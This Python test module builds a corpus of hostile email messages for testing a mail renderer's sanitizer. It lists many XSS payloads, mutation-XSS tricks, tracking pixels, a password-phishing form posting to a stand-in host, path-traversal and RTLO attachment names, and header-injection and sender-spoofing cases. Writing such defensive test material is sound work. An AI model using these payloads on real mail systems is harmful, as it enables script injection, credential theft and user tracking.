"""A generated corpus of hostile messages for the mail renderer and the webmail browser tests.

`corpus()` returns (name, raw bytes) pairs. Every remote URL in it points at a host under
`.invalid` or at http://127.0.0.1:9/ (the discard port), so a browser test can tell that a request
left the page by watching for exactly those.
"""

import base64
import quopri

REMOTE = ("http://tracker.invalid/", "https://evil.invalid/", "//cdn.invalid/",
          "http://127.0.0.1:9/")  # fmt: skip
PIXEL = "http://tracker.invalid/open.gif?u=42"
DISCARD = "http://127.0.0.1:9/"

HEAD = (
    "From: Alice <alice@sender.invalid>\r\n"
    "To: GM.Team@polres.invalid\r\n"
    "Date: Thu, 26 Nov 2026 09:15:00 +0000\r\n"
    "Message-ID: <hostile@sender.invalid>\r\n"
    "MIME-Version: 1.0\r\n"
)

SCRIPTS = {
    "script-plain": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT>alert(1)</SCRIPT>",
    "script-mixed-case-src": f"<ScRiPt src={DISCARD}x.js></sCrIpT>",
    "script-null-in-name": "<scr\x00ipt>alert(1)</script>",
    "script-null-after-name": "<script\x00>alert(1)</script>",
    "script-nested-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-slash-attr": f"<script/xss src='{REMOTE[1]}x.js'></script>",
    "script-double-open": "<<script>alert(1);//<</script>",
    "script-in-comment-trick": "<!--<script>-->alert(1)<!--</script>-->",
    "script-comment-breakout": "<!-- --!><script>alert(1)</script> -->",
    "script-conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "script-cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "script-vbscript-type": '<script type="text/vbscript">MsgBox "x"</script>',
    "script-newline-in-tag": "<script\n>alert(1)</script\n>",
    "script-tab-in-tag": "<sCrIpT\t>alert(1)</ScRiPt\t>",
    "script-unclosed": "<p>hello<script>alert(1)",
    "script-after-close": "</script><script>alert(1)</script>",
    "script-xml-namespace": '<x:script xmlns:x="http://xhtml.invalid/1999/xhtml">alert(1)</x:script>',
    "script-entity-name": "&lt;script&gt;<script>alert(1)</script>",
}

EVENT_TAGS = {
    "onerror": "<img src=x onerror=alert(1)>",
    "onload": '<body onload="alert(1)"><p>hi</p></body>',
    "onclick": '<div onclick="alert(1)">click</div>',
    "onmouseover": "<a onmouseover=alert(1) href=https://ok.invalid/>hover</a>",
    "onfocus-autofocus": "<input autofocus onfocus=alert(1)>",
    "onblur": '<p tabindex=1 onblur="alert(1)">x</p>',
    "ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "onanimationstart": '<p style="animation:x 1s" onanimationstart="alert(1)">x</p>',
    "ontransitionend": '<p style="transition:all 1s" ontransitionend=alert(1)>x</p>',
    "onpointerenter": "<span onpointerenter=alert(1)>x</span>",
    "onbeforeprint": "<body onbeforeprint=alert(1)>",
    "onhashchange": "<body onhashchange=alert(1)>",
    "onmessage": "<body onmessage=alert(1)>",
    "onpageshow": "<body onpageshow=alert(1)>",
    "onresize": "<body onresize=alert(1)>",
    "onscroll": '<div style="height:10px;overflow:auto" onscroll=alert(1)>x<br>y</div>',
    "onunload": "<body onunload=alert(1)>",
    "onwheel": "<p onwheel=alert(1)>x</p>",
    "oninput": "<textarea oninput=alert(1)>x</textarea>",
    "onsubmit": "<form onsubmit=alert(1)><button>go</button></form>",
    "onkeydown": "<p contenteditable onkeydown=alert(1)>x</p>",
    "ondrag": "<p draggable=true ondrag=alert(1)>x</p>",
    "oncopy": "<p oncopy=alert(1)>copy me</p>",
    "oncontextmenu": "<p oncontextmenu=alert(1)>x</p>",
    "ondblclick": "<b ondblclick=alert(1)>x</b>",
    "onauxclick": "<i onauxclick=alert(1)>x</i>",
    "onplay": f"<video autoplay onplay=alert(1) src={DISCARD}v.mp4></video>",
    "onloadstart": f"<audio src={DISCARD}a.mp3 onloadstart=alert(1)></audio>",
    "onstart-marquee": "<marquee onstart=alert(1)>x</marquee>",
    "onbegin-svg": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "event-uppercase": "<IMG SRC=x ONERROR=alert(1)>",
    "event-vertical-tab": "<img src=x onerror\x0b=alert(1)>",
    "event-slash-separated": "<img/src=x/onerror=alert(1)>",
    "event-spaced-equals": "<img src=x onerror  =  'alert(1)'>",
    "event-no-close": "<img src=x onerror=alert(1)//",
    "event-entity-value": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
}

URL_ATTRS = {
    "href-javascript": '<a href="javascript:alert(1)">x</a>',
    "href-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "href-javascript-decimal-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
    ),
    "href-javascript-hex-entities": '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    "href-javascript-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "href-javascript-tab": '<a href="java\tscript:alert(1)">x</a>',
    "href-javascript-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "href-javascript-leading-space": '<a href=" \x01javascript:alert(1)">x</a>',
    "href-javascript-newline-entity": '<a href="java&NewLine;script:alert(1)">x</a>',
    "href-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "href-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "src-javascript": '<img src="javascript:alert(1)">',
    "src-data-svg": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "src-data-png": '<img src="data:image/png;base64,iVBORw0KGgo=">',
    "form-action-javascript": '<form action="javascript:alert(1)"><input type=submit></form>',
    "formaction-javascript": '<form><button formaction="javascript:alert(1)">go</button></form>',
    "background-javascript": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "srcset-javascript": '<img srcset="javascript:alert(1) 1x">',
    "srcset-data": '<img srcset="data:image/svg+xml,<svg/onload=alert(1)> 2x">',
    "xlink-href-javascript": (
        '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="15">x</text></a></svg>'
    ),
    "poster-javascript": '<video poster="javascript:alert(1)"></video>',
    "lowsrc-javascript": '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
    "area-href-javascript": '<map name=m><area shape=rect href="javascript:alert(1)"></map>',
    "blockquote-cite-javascript": '<blockquote cite="javascript:alert(1)">q</blockquote>',
    "title-with-javascript": '<p title="javascript:alert(1)">hover</p>',
}

ACTIVE = {
    "svg-onload": "<svg onload=alert(1)></svg>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-foreignobject": (
        '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'
    ),
    "svg-set-href": '<svg><a><set attributeName=href to="javascript:alert(1)"/><text>x</text></a>',
    "svg-use-data": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "svg-image-remote": f'<svg><image href="{PIXEL}" width=1 height=1 /></svg>',
    "mathml-href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "mathml-maction": '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">'
    "<mtext>x</mtext></maction></math>",
    "css-expression": '<div style="width: expression(alert(1))">x</div>',
    "css-expression-comment": '<font style="color:exp/**/ression(alert(1))">x</font>',
    "css-expression-entities": '<p style="x:expression&#40;alert(1)&#41;">x</p>',
    "css-url-javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "css-behavior": f'<div style="behavior: url({REMOTE[1]}x.htc)">x</div>',
    "css-moz-binding": f'<div style="-moz-binding:url({REMOTE[1]}x.xml#xss)">x</div>',
    "css-import-style-element": f"<style>@import url({REMOTE[1]}x.css);</style><p>x</p>",
    "css-style-element-upper": '<STYLE type="text/css">p{color:red}</STYLE><p>x</p>',
    "css-style-element-background": f"<style>body{{background:url({PIXEL})}}</style><p>x</p>",
    "css-escaped-url": '<div style="background-image: u\\72 l(http://tracker.invalid/e)">x</div>',
    "css-overlay-phishing": (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">Log in</div>'
    ),
    "meta-refresh-javascript": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta-refresh-remote": f'<meta http-equiv=refresh content="0; url={REMOTE[1]}phish">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "meta-charset-utf7": '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "base-href": f'<base href="{REMOTE[1]}"><a href="/login">x</a><img src="/pixel.gif">',
    "form-phishing": (
        f'<form action="{REMOTE[1]}steal" method=post><input name=password type=password>'
        "<button>Log in</button></form>"
    ),
    "input-image": f'<input type=image src="{PIXEL}">',
    "isindex": '<isindex action="javascript:alert(1)" type=image>',
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-remote": f'<iframe src="{DISCARD}frame"></iframe>',
    "object-javascript": '<object data="javascript:alert(1)"></object>',
    "object-remote": f'<object data="{REMOTE[1]}x.swf" type="application/x-shockwave-flash">',
    "embed-data": '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "applet": f'<applet code="X.class" codebase="{REMOTE[1]}">x</applet>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "portal": f'<portal src="{REMOTE[1]}"></portal>',
    "link-stylesheet": f'<link rel=stylesheet href="{REMOTE[1]}x.css"><p>x</p>',
    "link-prefetch": (
        f'<link rel=prefetch href="{PIXEL}"><link rel=dns-prefetch href="//cdn.invalid">'
    ),
    "link-import": f'<link rel=import href="{REMOTE[1]}x.html">',
}

REMOTE_RESOURCES = {
    "pixel-1x1": f'<img src="{PIXEL}" width="1" height="1" alt="">',
    "pixel-hidden": f'<img src="{DISCARD}p.gif" style="display:none">',
    "pixel-https": f'<img src="{REMOTE[1]}p.gif" width=1 height=1>',
    "pixel-protocol-relative": '<img src="//cdn.invalid/p.gif">',
    "pixel-uppercase-scheme": '<img src="HTTP://TRACKER.INVALID/P.GIF">',
    "pixel-entity-scheme": '<img src="&#104;ttp://tracker.invalid/e.gif">',
    "srcset-remote": f'<img srcset="{PIXEL} 1x, //cdn.invalid/2.gif 2x">',
    "picture-source": f'<picture><source srcset="{PIXEL}"><img src="{DISCARD}pic.gif"></picture>',
    "background-table": f'<table background="{PIXEL}"><tr><td>x</td></tr></table>',
    "background-td": '<table><tr><td background="//cdn.invalid/bg.gif">x</td></tr></table>',
    "background-body": f'<body background="{DISCARD}body.gif"><p>x</p></body>',
    "css-background-image": f'<p style="background-image:url({PIXEL})">x</p>',
    "css-background-shorthand": "<p style=\"background: #fff url('//cdn.invalid/b.png')\">x</p>",
    "css-list-style": f'<ul style="list-style: url({DISCARD}l.png)"><li>x</li></ul>',
    "css-border-image": f'<p style="border-image: url({PIXEL}) 30">x</p>',
    "css-cursor": f'<p style="cursor:url({PIXEL}),auto">x</p>',
    "css-content": f'<p style="content:url({PIXEL})">x</p>',
    "css-image-set": f"<p style=\"background-image:image-set('{PIXEL}' 1x)\">x</p>",
    "css-comment-split": '<p style="color:red;/**/background:url(//cdn.invalid/c)">x</p>',
    "video-poster": f'<video poster="{PIXEL}"></video>',
    "audio-src": f'<audio src="{DISCARD}a.mp3" autoplay></audio>',
    "img-lowsrc": f'<img lowsrc="{PIXEL}" dynsrc="{DISCARD}d">',
    "a-ping": f'<a ping="{PIXEL}" href="https://ok.invalid/">x</a>',
    "link-preload": f'<link rel=preload as=image href="{PIXEL}">',
    "svg-feimage": f'<svg><filter><feImage href="{PIXEL}"/></filter></svg>',
}

MUTATION = {
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mxss-template": "<template><img src=x onerror=alert(1)></template>",
    "mxss-textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "mxss-title": "<title><img src=x onerror=alert(1)></title>",
    "mxss-xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "mxss-noembed": "<noembed><img src=x onerror=alert(1)></noembed>",
    "mxss-iframe-title": '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "mxss-svg-style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mxss-math-mglyph": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;'
        '&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'
    ),
    "mxss-form-math": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "mxss-select-template": "<select><template><style><img src onerror=alert(1)>",
    "mxss-plaintext": "<plaintext><script>alert(1)</script>",
    "broken-unclosed-attr": '<img src="x onerror=alert(1)>',
    "broken-unclosed-href": "<a href='javascript:alert(1)>x",
    "broken-tag-in-tag": "<div <script>alert(1)</script>>x</div>",
    "broken-double-lt": "<<img src=x onerror=alert(1)//<",
    "broken-quotes": '<img """><script>alert(1)</script>">',
    "broken-unclosed-nesting": "<p>unclosed <b><i><u><table><tr><td>cell" * 50,
    "broken-pi": f'<?xml-stylesheet href="{REMOTE[1]}x.xsl"?><p>x</p>',
    "broken-listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
}


def _html_message(name: str, html: str) -> bytes:
    head = HEAD + f"Subject: hostile {name}\r\nContent-Type: text/html; charset=utf-8\r\n"
    body = quopri.encodestring(html.encode("utf-8"))
    return (head + "Content-Transfer-Encoding: quoted-printable\r\n\r\n").encode() + body


def _mime(subject: str, ctype: str, body: str, extra: str = "") -> bytes:
    head = HEAD + f"Subject: {subject}\r\nContent-Type: {ctype}\r\n{extra}\r\n"
    return (head + body).encode("utf-8", "surrogateescape")


def _part(ctype: str, body: str, extra: str = "") -> str:
    return f"Content-Type: {ctype}\r\n{extra}\r\n{body}\r\n"


def _multipart(boundary: str, parts: list[str]) -> str:
    inner = "".join(f"--{boundary}\r\n{p}" for p in parts)
    return inner + f"--{boundary}--\r\n"


def _nested(levels: int) -> bytes:
    body = _part("text/html", f"<p>deep</p><script>alert(1)</script><img src={PIXEL}>")
    for level in range(levels):
        body = _part(f'multipart/mixed; boundary="b{level}"', _multipart(f"b{level}", [body]))
    return (HEAD + "Subject: nested\r\n").encode() + body.encode()


def _attachment(filename_params: str, ctype: str = "application/octet-stream") -> bytes:
    parts = [
        _part("text/plain", "see attachment"),
        _part(ctype, base64.b64encode(b"root:x:0:0").decode(),
              f"Content-Disposition: attachment; {filename_params}\r\n"
              "Content-Transfer-Encoding: base64\r\n"),
    ]  # fmt: skip
    return _mime("attachment", 'multipart/mixed; boundary="B"', _multipart("B", parts))


SCRIPT_HTML = f"<p>hi</p><script>alert(1)</script><img src={PIXEL}>"
B64 = base64.b64encode(SCRIPT_HTML.encode()).decode()
QP = "Content-Transfer-Encoding: quoted-printable\r\n"
BASE64 = "Content-Transfer-Encoding: base64\r\n"


def _one(boundary: str, parts: list[str], subtype: str = "mixed") -> bytes:
    ctype = f'multipart/{subtype}; boundary="{boundary}"'
    return _mime(subtype, ctype, _multipart(boundary, parts))


def _mime_cases() -> dict[str, bytes]:
    html = _part("text/html", SCRIPT_HTML)
    related = [
        _part("text/html", f'<img src="cid:logo@x"><img src="{PIXEL}"><a href="cid:logo@x">l</a>'),
        _part("image/png", "iVBORw0KGgo=", "Content-ID: <logo@x>\r\n" + BASE64),
    ]
    inner = HEAD.replace("hostile@", "inner@") + "Subject: ../../inner\r\n"
    inner += "Content-Type: text/html\r\n\r\n" + SCRIPT_HTML
    return {
        "mime-nested-50": _nested(50),
        "mime-nested-400": _nested(400),
        "mime-many-parts": _one("M", [html] * 1000),
        "mime-missing-boundary": _mime("nb", "multipart/mixed", _multipart("X", [html])),
        "mime-unused-boundary": _mime("ub", 'multipart/mixed; boundary="never"', SCRIPT_HTML),
        "mime-no-close-delimiter": _mime("nc", 'multipart/mixed; boundary="C"', f"--C\r\n{html}"),
        "mime-empty-boundary": _mime("eb", 'multipart/mixed; boundary=""', _multipart("", [html])),
        "mime-alternative-html-last": _one(
            "A", [_part("text/plain", "plain"), html], "alternative"
        ),
        "mime-related-cid": _one("R", related, "related"),
        "mime-bad-base64": _mime("bb", "text/html", "!!!@@@" + B64[:-3] + "*&^", BASE64),
        "mime-base64-html": _mime("b64", "text/html", B64, BASE64),
        "mime-bad-qp": _mime("qp", "text/html", "=ZZ<scr=\r\nipt>alert(1)</scr=\r\nipt>=4", QP),
        "mime-qp-javascript": _mime("qpj", "text/html", '<a href=3D"java=\r\nscript:x">x</a>', QP),
        "mime-uuencode-garbage": _mime(
            "uu", "text/html", "begin 644 x\r\n!!!\r\n", "Content-Transfer-Encoding: x-uuencode\r\n"
        ),
        "ctype-garbage": _mime("cg", "text/html/evil; charset=", SCRIPT_HTML),
        "ctype-semicolons": _mime("cs", ";;;", SCRIPT_HTML),
        "ctype-twice": _mime("ct", "text/plain", SCRIPT_HTML, "Content-Type: text/html\r\n"),
        "ctype-xhtml": _mime("cx", "application/xhtml+xml", SCRIPT_HTML),
        "html-as-attachment": _one(
            "H",
            [
                _part("text/plain", "body"),
                _part("text/html", SCRIPT_HTML, "Content-Disposition: attachment\r\n"),
            ],
        ),
        "html-inline-named": _one(
            "H",
            [
                _part("text/plain", "body"),
                _part("text/html; name=evil.html", SCRIPT_HTML, "Content-Disposition: inline\r\n"),
            ],
        ),
        "rfc822-attached": _one("E", [_part("text/plain", "fwd"), _part("message/rfc822", inner)]),
    }


def _charset_cases() -> dict[str, bytes]:
    utf7 = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-"
    utf16 = HEAD + "Subject: u16\r\nContent-Type: text/html; charset=utf-16\r\n\r\n"
    escaped = "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e\\ud800"
    return {
        "charset-unknown": _mime("cu", "text/html; charset=x-unknown-evil", SCRIPT_HTML),
        "charset-utf7": _mime("u7", "text/html; charset=utf-7", utf7),
        "charset-utf16": utf16.encode() + "<script>alert(1)</script><p>x</p>".encode("utf-16"),
        "charset-base64-codec": _mime("c64", "text/html; charset=base64", B64),
        "charset-rot13": _mime("r13", "text/html; charset=rot13", "<fpevcg>nyreg(1)</fpevcg>"),
        "charset-unicode-escape": _mime("ue", "text/html; charset=unicode_escape", escaped),
    }


def _attachment_cases() -> dict[str, bytes]:
    return {
        "attach-dotdot-passwd": _attachment('filename="../../etc/passwd"'),
        "attach-windows-path": _attachment('filename="..\\\\..\\\\windows\\\\evil.exe"'),
        "attach-evil-html": _attachment('filename="evil.html"', "text/html"),
        "attach-svg-script": _attachment('filename="x.svg"', "image/svg+xml"),
        "attach-rfc2231-slashes": _attachment("filename*=utf-8''..%2F..%2Fetc%2Fpasswd"),
        "attach-rfc2231-continuation": _attachment(
            "filename*0*=utf-8''..%2F..; filename*1=/evil.sh"
        ),
        "attach-encoded-word": _attachment('filename="=?utf-8?b?Li4vLi4vZXZpbC5zaA==?="'),
        "attach-control-chars": _attachment('filename="a\tb=?utf-8?q?=00=0D=0Ac?=.txt"'),
        "attach-rtlo": _attachment('filename="=?utf-8?q?invoice=E2=80=AEgpj.exe?="'),
        "attach-empty-name": _attachment('filename=""'),
        "attach-dots-only": _attachment('filename=".."'),
        "attach-huge-name": _attachment(f'filename="{"A" * 10000}.exe"'),
    }


def _header_cases() -> dict[str, bytes]:
    cc = "Cc: " + ", ".join(f"u{i}@x.invalid" for i in range(5000)) + "\r\n"
    spoof = "=?utf-8?q?admin=40bank=2Einvalid_=3Cadmin=40bank=2Einvalid=3E?="
    return {
        "header-huge-subject": _mime("S" * 200_000, "text/plain", "x"),
        "header-many-fields": _mime("many fields", "text/plain", "x", "X-Junk: y\r\n" * 10_000),
        "header-many-addresses": _mime("to", "text/plain", "x", cc),
        "header-two-from": _mime("two", "text/plain", "x", "From: Bank <admin@bank.invalid>\r\n"),
        "header-encoded-from-spoof": _mime(
            "spoof", "text/plain", "x", f"From: {spoof} <x@evil.invalid>\r\n"
        ),
        "header-encoded-crlf": _mime(
            "=?utf-8?q?hi=0D=0ABcc=3A_x=40evil=2Einvalid?=", "text/plain", "x"
        ),
        "header-bare-cr": _mime("line1\rBcc: x@evil.invalid", "text/plain", "x"),
        "header-bidi-from": _mime(
            "bidi", "text/plain", "x", "From: =?utf-8?q?=E2=80=AEmoc=2Eknab?= <x@evil.invalid>\r\n"
        ),
        "header-8bit": _mime("caf\udce9 \udcff\udcfe", "text/plain", "x"),
        "header-null": _mime("nul\x00here", "text/plain", "x"),
    }


def corpus() -> list[tuple[str, bytes]]:
    """Every hostile message, as (unique name, raw RFC 5322 bytes)."""
    out: list[tuple[str, bytes]] = []
    for group in (SCRIPTS, EVENT_TAGS, URL_ATTRS, ACTIVE, REMOTE_RESOURCES, MUTATION):
        out.extend((name, _html_message(name, html)) for name, html in group.items())
    for cases in (_mime_cases(), _charset_cases(), _attachment_cases(), _header_cases()):
        out.extend(cases.items())
    return out
